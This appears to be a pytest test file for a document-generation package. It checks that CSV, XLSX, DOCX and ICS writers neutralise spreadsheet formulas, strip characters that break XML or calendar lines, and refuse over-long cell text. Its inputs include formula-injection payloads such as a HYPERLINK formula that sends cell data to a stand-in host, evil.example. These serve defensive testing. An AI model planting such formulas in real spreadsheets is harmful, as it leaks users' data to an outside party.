"""Text from the data in every writer: no formula in a spreadsheet, no character that
breaks XML or a calendar line, no text cut at a cell's size."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
from hostile_files import HostileCtx, docx_template
from hostile_harness import hostile_settings
from hypothesis import given
from hypothesis import strategies as st
from icalendar import Calendar

from nastavnik_docs._resources import sample_path
from nastavnik_docs._textsafe import FORMULA_START, csv_cell, xml_text
from nastavnik_docs.batch import Failure
from nastavnik_docs.batch._report import write_error_report
from nastavnik_docs.engine.fast import FastDocxTemplate
from nastavnik_docs.engine.ics import clean_text, roadmap_calendar
from nastavnik_docs.engine.roadmap_xlsx import write_roadmap_xlsx
from nastavnik_docs.errors import InputError
from nastavnik_docs.io import dump_participants_csv, load_input, load_registry, read_csv, write_registry
from nastavnik_docs.models import Participant, Registry, Roadmap

_FORMULA_TEXT = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_START),
                          st.text(alphabet=st.sampled_from(list('=+-@HYPERLINK("http://evil.example/?x=")&C3,;\t\r\n ')),
                                  max_size=40))
_ANY_TEXT = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=()), max_size=50)


@pytest.mark.hostile("formulas")
@hostile_settings(120)
@given(name=_FORMULA_TEXT, error=_FORMULA_TEXT)
def test_the_error_report_neutralises_every_formula(tmp_path_factory, name, error, tally):
    folder = tmp_path_factory.mktemp("report")
    path = write_error_report(folder, [Failure(1, name, error)])
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert rows[1][1] == "'" + name and rows[1][2] == "'" + error
    tally.add("formulas", "обезврежена (CSV)")


_CELL_FORMULA = st.builds(lambda start, rest: start + rest, st.sampled_from("=+-@"),
                         st.text(alphabet=st.sampled_from(list('=+-@HYPERLINK("http://evil.example/?x=")&C3,')),
                                 max_size=40))


@pytest.mark.hostile("formulas")
@hostile_settings(8)
@given(values=st.lists(_CELL_FORMULA, min_size=20, max_size=20))
def test_the_registry_workbook_and_csv_keep_formula_like_text_as_text(tmp_path_factory, values, tally):
    folder = tmp_path_factory.mktemp("registry")
    registry = Registry(participants=[Participant(id=str(i), last_name=v, first_name="Анна", post=v)
                                      for i, v in enumerate(values, start=1)])
    sheet = openpyxl.load_workbook(write_registry(registry, folder / "база.xlsx"))["Участники"]
    text = dump_participants_csv(registry.participants)
    written = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    (folder / "p.csv").write_text(text, encoding="utf-8")
    read_back = read_csv(folder / "p.csv")
    for row, value in enumerate(values, start=2):
        cell = sheet.cell(row=row, column=2)
        assert cell.data_type == "s" and cell.value == value and cell.quotePrefix
        assert written[row - 1][1] == "'" + value  # behind an apostrophe in the CSV
        assert read_back[row - 1][1] == value  # which the reader removes again
        tally.add("formulas", "обезврежена (XLSX, CSV)")


def test_the_formula_of_the_issue_is_written_as_text(tmp_path):
    name = '=HYPERLINK("http://evil.example/?leak="&C3,"…")'
    path = write_error_report(tmp_path, [Failure(3, name, "ошибка")])
    raw = path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in raw and ";=HYPERLINK" not in raw
    assert csv_cell("-1") == "'-1" and csv_cell("\tx") == "'\tx" and csv_cell("обычный текст") == "обычный текст"


@pytest.fixture(scope="module")
def calendar_roadmap():
    return load_input(Roadmap, sample_path("roadmaps/school_12_new.yaml"))


@pytest.fixture(scope="module")
def fast_template(tmp_path_factory):
    folder = tmp_path_factory.mktemp("xml")
    docx_template(folder / "t.docx", ["{{ school }}"])
    return FastDocxTemplate(folder / "t.docx")


@pytest.mark.hostile("xmlchars")
@hostile_settings(150)
@given(value=_ANY_TEXT)
def test_docx_and_ics_apply_the_one_xml_rule(fast_template, calendar_roadmap, value, tally):
    from docx import Document

    expected = xml_text(value)
    # DOCX
    document = Document(io.BytesIO(fast_template.render_bytes(HostileCtx(school=value))))
    assert document.paragraphs[0].text == expected
    # ICS: no character of the value can start a content line of its own
    row = calendar_roadmap.stages[0].rows[0]
    roadmap = calendar_roadmap.model_copy(deep=True)
    roadmap.stages[0].rows[0] = row.model_copy(update={"title": "Событие " + value})
    data = roadmap_calendar(roadmap, stamp=dt.datetime(2026, 1, 1, tzinfo=dt.UTC))[0].to_ical()
    lines = data.split(b"\r\n")
    assert all(re.match(rb"^( |[A-Z-]+[;:])", line) or not line for line in lines), lines
    assert b"\r" not in data.replace(b"\r\n", b"") and b"\n" not in data.replace(b"\r\n", b"")
    parsed = Calendar.from_ical(data)
    description = str(next(iter(parsed.walk("VEVENT")))["description"])
    assert clean_text("Событие " + value).strip() in description
    tally.add("xmlchars", "по правилу")


@pytest.mark.hostile("xmlchars")
@hostile_settings(5)
@given(values=st.lists(_ANY_TEXT.map(str.strip).filter(bool), min_size=30, max_size=30))
def test_the_registry_workbook_applies_the_one_xml_rule(tmp_path_factory, values, tally):
    registry = Registry(participants=[Participant(id=str(i), last_name="Иванова", first_name="Анна", post=v)
                                      for i, v in enumerate(values, start=1)])
    path = write_registry(registry, tmp_path_factory.mktemp("xlsx") / "база.xlsx")
    sheet = openpyxl.load_workbook(path)["Участники"]
    for row, value in enumerate(values, start=2):
        assert sheet.cell(row=row, column=9).value == (xml_text(value) or None)
        tally.add("xmlchars", "по правилу")


def test_the_characters_of_the_issue_in_a_roadmap(tmp_path):
    """A vertical tab (Shift+Enter pasted from Word) and U+FFFE broke the XLSX writer."""
    roadmap = load_input(Roadmap, sample_path("roadmaps/school_12_new.yaml"))
    row = roadmap.stages[0].rows[0]
    row.title = "Утверждение\x0bположения\ufffe\rи дорожной карты"
    row.responsible = '=HYPERLINK("http://evil")'

    class Ctx:
        pass

    ctx = Ctx()
    ctx.roadmap = roadmap  # type: ignore[attr-defined]
    out = write_roadmap_xlsx(ctx, None, tmp_path / "карта.xlsx")
    cells = [c for r in openpyxl.load_workbook(out).worksheets[0].iter_rows() for c in r]
    title = next(c for c in cells if isinstance(c.value, str) and c.value.startswith("Утверждение"))
    assert title.value.startswith("Утверждениеположения\nи дорожной карты")
    formula = next(c for c in cells if c.value == '=HYPERLINK("http://evil")')
    assert formula.data_type == "s"


def test_text_longer_than_a_cell_is_refused_not_cut(tmp_path):
    registry = Registry(participants=[Participant(id="1", last_name="Иванова", first_name="Анна", post="д" * 40_000)])
    with pytest.raises(InputError) as info:
        write_registry(registry, tmp_path / "база.xlsx")
    (problem,) = info.value.problems
    assert (problem.sheet, problem.row, problem.column) == ("Участники", 2, "Должность / класс")
    assert "32\u00a0767" in problem.message and not (tmp_path / "база.xlsx").exists()


def test_xlsx_text_of_exactly_a_cell_round_trips(tmp_path):
    post = "д" * 32_767
    registry = Registry(participants=[Participant(id="1", last_name="Иванова", first_name="Анна", post=post)])
    assert load_registry(write_registry(registry, tmp_path / "база.xlsx")).participants[0].post == post
